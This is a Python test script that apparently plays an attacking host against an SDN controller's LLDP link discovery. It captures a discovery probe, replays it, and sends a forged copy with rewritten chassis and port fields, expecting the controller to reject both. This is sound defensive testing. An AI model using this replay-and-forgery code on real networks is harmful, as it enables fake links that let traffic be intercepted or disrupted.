#!/usr/bin/python3
"""Plays a host that attacks LLDP link discovery, from inside its network namespace.

Hears one of the controller's probes on INTERFACE, then sends two frames back into the switch:
the probe itself (a replay), and a forgery made from it that claims to come from another
switch's port (chassis and port TLVs rewritten, everything else, signature included, kept).
Neither may ever become a link. Prints one JSON line.

usage: lldp_attack.py INTERFACE CLAIMED_DPID_HEX CLAIMED_PORT
"""

import json
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
LLDP = b'\x88\xcc'


def tlvs(frame):
    out, i = [], 14
    while i + 2 <= len(frame):
        header = struct.unpack('!H', frame[i:i + 2])[0]
        kind, length = header >> 9, header & 0x1FF
        out.append((kind, frame[i + 2:i + 2 + length]))
        i += 2 + length
        if kind == 0:
            break
    return out


def tlv(kind, value):
    return struct.pack('!H', (kind << 9) | len(value)) + value


def main():
    intf, claimed_dpid, claimed_port = sys.argv[1], sys.argv[2], sys.argv[3]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((intf, 0))
    s.settimeout(0.5)
    probe, deadline = None, time.time() + 15
    while probe is None and time.time() < deadline:
        try:
            frame = s.recv(4096)
        except socket.timeout:
            continue
        if frame[12:14] == LLDP:
            probe = frame
    if probe is None:
        print(json.dumps({'ok': False, 'error': 'heard no LLDP on %s' % intf}))
        return 1
    forged = probe[:14]
    for kind, value in tlvs(probe):
        if kind == 1:
            value = b'\x07' + ('of:' + claimed_dpid).encode()
        elif kind == 2:
            value = b'\x07' + claimed_port.encode()
        forged += tlv(kind, value)
    s.send(probe)
    s.send(forged)
    print(json.dumps({'ok': True, 'replayed': len(probe), 'forged': len(forged)}))
    return 0


if __name__ == '__main__':
    sys.exit(main())
